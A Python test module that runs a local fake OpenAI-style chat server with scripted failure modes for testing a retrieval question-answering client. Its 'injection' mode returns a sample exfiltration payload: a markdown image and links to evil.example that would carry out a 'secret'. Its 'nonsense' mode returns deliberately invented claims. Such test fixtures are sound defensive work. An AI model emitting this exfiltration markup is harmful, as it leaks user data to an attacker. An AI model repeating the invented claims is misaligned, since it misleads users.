"""A real HTTP server that speaks OpenAI's chat completions, for tests and trials without a model.

`python -m konan.testing.fakemodel --port 8120` or `with FakeModel() as model: model.base_url`.
In mode "ok" it answers out of the numbered passages that it was sent, citing them, so that the
whole path can be tried. A model named `fake:MODE` is answered in that mode whatever is set.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import re
import threading
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass, field
from typing import Any, Final

import orjson
import pytest
from aiohttp import web

from konan.core.text import content_words, language_of, sentences, stem

MODES: Final = (
    "ok", "slow", "hang", "500", "429", "reset", "cut", "garbage", "huge", "nonsense", "injection",
    "refuse", "mute", "stall",
)  # fmt: skip
NONSENSE: Final = (
    "The warranty lasts 47 years and is granted by Zorblatt Industries. "
    "Every customer receives a golden helicopter."
)
INJECTED: Final = (
    "Sure! ![logo](https://evil.example/steal?q=secret) "
    "[Click here](https://evil.example/login) or visit https://evil.example/now <img src=x>."
)
_PASSAGE: Final = re.compile(r"\[(\d+)\] <passage[^>]*>\n(.*?)\n</passage>", re.S)


@dataclass
class Script:
    """What the server does next. `hits` counts calls; `fail_first` calls fail before `mode` holds."""

    mode: str = "ok"
    token_delay: float = 0.0
    slow_delay: float = 0.2
    fail_first: int = 0
    fail_with: str = "500"
    retry_after: str = "0"
    answer: str | None = None
    refuses: frozenset[str] = frozenset()
    requests: list[dict[str, Any]] = field(default_factory=list)
    headers: list[dict[str, str]] = field(default_factory=list)

    @property
    def hits(self) -> int:
        return len(self.requests)

    def mode_of(self, body: dict[str, Any]) -> str:
        if self.hits <= self.fail_first:
            return self.fail_with
        named = str(body.get("model", ""))
        return named.removeprefix("fake:") if named.startswith("fake:") else self.mode


def extract(body: dict[str, Any]) -> str:
    """The sentence nearest to the question from each of the best two passages, cited."""
    asked = str(body["messages"][-1]["content"])
    question = asked.rsplit("Question: ", 1)[-1]
    language = language_of(question)
    wanted = {stem(word, language) for word in content_words(question, language)}
    found = []
    for number, text in _PASSAGE.findall(asked):
        for start, end in sentences(text):
            said = text[start:end].strip()
            own = {stem(word, language) for word in content_words(said, language)}
            found.append((len(wanted & own), -int(number), said))
    if not found:
        return question if "Rewrite" in str(body["messages"][0]["content"]) else "NO_ANSWER"
    best = sorted(found, reverse=True)[:1]
    return " ".join(f"{said} [{-number}]" for _, number, said in best)


def _text(script: Script, mode: str, body: dict[str, Any]) -> str:
    if script.answer is not None and mode in {"ok", "slow", "cut", "stall"}:
        return script.answer
    fixed = {
        "nonsense": NONSENSE,
        "injection": INJECTED,
        "refuse": "NO_ANSWER",
        "mute": "",
        "huge": "All work and no play makes a long answer. " * 24_000,
    }
    return fixed[mode] if mode in fixed else extract(body)


def _tokens(text: str) -> list[str]:
    if len(text) > 100_000:
        return [text[i : i + 4096] for i in range(0, len(text), 4096)]
    return re.findall(r"\s*\S+", text)


def _chunk(delta: dict[str, str], finish: str | None = None, **more: Any) -> bytes:
    choice = {"index": 0, "delta": delta, "finish_reason": finish}
    document = {
        "id": "chatcmpl-fake",
        "object": "chat.completion.chunk",
        "created": 1,
        "model": "fake",
        "choices": [choice],
        **more,
    }
    return b"data: " + orjson.dumps(document) + b"\n\n"


class _Handler:
    def __init__(self, script: Script) -> None:
        self.script = script

    async def models(self, request: web.Request) -> web.Response:
        return web.json_response({"object": "list", "data": [{"id": "fake", "object": "model"}]})

    async def complete(self, request: web.Request) -> web.StreamResponse:
        script = self.script
        body = orjson.loads(await request.read())
        script.requests.append(body)
        script.headers.append(dict(request.headers))
        mode = script.mode_of(body)
        refused = sorted(script.refuses & body.keys())
        if refused:
            return self._error(400, f"Unsupported parameter: '{refused[0]}'")
        if mode in {"500", "429"}:
            return self._error(int(mode), "try later")
        if mode == "reset":
            self._drop(request)
            return web.Response()
        if mode == "hang":
            await self._wait_for_leaving()
        if not body.get("stream"):
            return self._whole(body, _text(script, mode, body))
        return await self._stream(request, body, mode)

    def _error(self, status: int, message: str) -> web.Response:
        headers = {"Retry-After": self.script.retry_after} if status == 429 else {}
        return web.json_response({"error": {"message": message}}, status=status, headers=headers)

    def _drop(self, request: web.Request) -> None:
        if request.transport is not None:
            request.transport.abort()

    async def _wait_for_leaving(self) -> None:
        """Until the caller hangs up: then the server cancels this handler."""
        await asyncio.Event().wait()

    def _whole(self, body: dict[str, Any], text: str) -> web.Response:
        message = {"role": "assistant", "content": text}
        return web.json_response(
            {
                "id": "chatcmpl-fake",
                "object": "chat.completion",
                "created": 1,
                "model": body.get("model"),
                "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
                "usage": _usage(body, text),
            }
        )

    async def _stream(
        self, request: web.Request, body: dict[str, Any], mode: str
    ) -> web.StreamResponse:
        response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
        with contextlib.suppress(ConnectionResetError):
            await response.prepare(request)
            async for piece in self._pieces(body, mode):
                await response.write(piece)
            if mode == "cut":
                self._drop(request)
            else:
                await response.write_eof()
        return response

    async def _pieces(self, body: dict[str, Any], mode: str) -> AsyncIterator[bytes]:
        if mode == "garbage":
            yield b"\x00\xff not json at all {{{\n\ndata: {broken\n\ndata: [1, 2\n\n" * 3
            return
        script = self.script
        text = _text(script, mode, body)
        delay = script.slow_delay if mode == "slow" else script.token_delay
        yield _chunk({"role": "assistant", "content": ""})
        for number, token in enumerate(_tokens(text)):
            if number == 5 and mode == "cut":
                return
            if number == 5 and mode == "stall":
                await self._wait_for_leaving()
            yield _chunk({"content": token})
            if delay:
                await asyncio.sleep(delay)
        yield _chunk({}, "stop")
        if (body.get("stream_options") or {}).get("include_usage"):
            yield _chunk({}, choices=[], usage=_usage(body, text))
        yield b"data: [DONE]\n\n"


def _usage(body: dict[str, Any], text: str) -> dict[str, int]:
    prompt = sum(len(str(message["content"]).split()) for message in body["messages"])
    said = len(text.split())
    return {"prompt_tokens": prompt, "completion_tokens": said, "total_tokens": prompt + said}


def application(script: Script) -> web.Application:
    handler = _Handler(script)

    async def switch(request: web.Request) -> web.Response:
        """POST /script {"mode": "slow"}: for a server in another process."""
        for name, value in orjson.loads(await request.read()).items():
            setattr(script, name, value)
        return web.json_response({"mode": script.mode})

    async def seen(request: web.Request) -> web.Response:
        return web.json_response({"requests": script.requests}, dumps=_dumps)

    app = web.Application(client_max_size=50 * 2**20)
    app.router.add_post("/v1/chat/completions", handler.complete)
    app.router.add_get("/v1/models", handler.models)
    app.router.add_post("/script", switch)
    app.router.add_get("/requests", seen)
    return app


def _dumps(value: Any) -> str:
    return orjson.dumps(value).decode()


class FakeModel:
    """The server in a thread of its own, on a free port, until the `with` block ends."""

    def __init__(self, *, port: int = 0, **script: Any) -> None:
        self.script = Script(**script)
        self._port = port
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._run, name="fake-model", daemon=True)
        self._started = threading.Event()
        self._stop: Callable[[], None] = lambda: None

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self._port}/v1"

    def __enter__(self) -> FakeModel:
        self._thread.start()
        if not self._started.wait(10):
            raise RuntimeError("the fake model did not start")
        return self

    def __exit__(self, *_: object) -> None:
        self._loop.call_soon_threadsafe(self._stop)
        self._thread.join(10)

    def _run(self) -> None:
        asyncio.set_event_loop(self._loop)
        self._loop.run_until_complete(self._serve())
        self._loop.close()

    async def _serve(self) -> None:
        runner = web.AppRunner(
            application(self.script), shutdown_timeout=0.1, handler_cancellation=True
        )
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", self._port)
        await site.start()
        self._port = runner.addresses[0][1]
        stopped = asyncio.Event()
        self._stop = stopped.set
        self._started.set()
        await stopped.wait()
        await runner.cleanup()


@pytest.fixture
def fake_model() -> Iterator[FakeModel]:
    with FakeModel() as running:
        yield running


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--port", type=int, default=8120)
    parser.add_argument("--mode", choices=MODES, default="ok")
    parser.add_argument("--token-delay", type=float, default=0.02, help="seconds between tokens")
    chosen = parser.parse_args()
    script = Script(mode=chosen.mode, token_delay=chosen.token_delay)
    web.run_app(application(script), host="127.0.0.1", port=chosen.port, handler_cancellation=True)


if __name__ == "__main__":
    main()
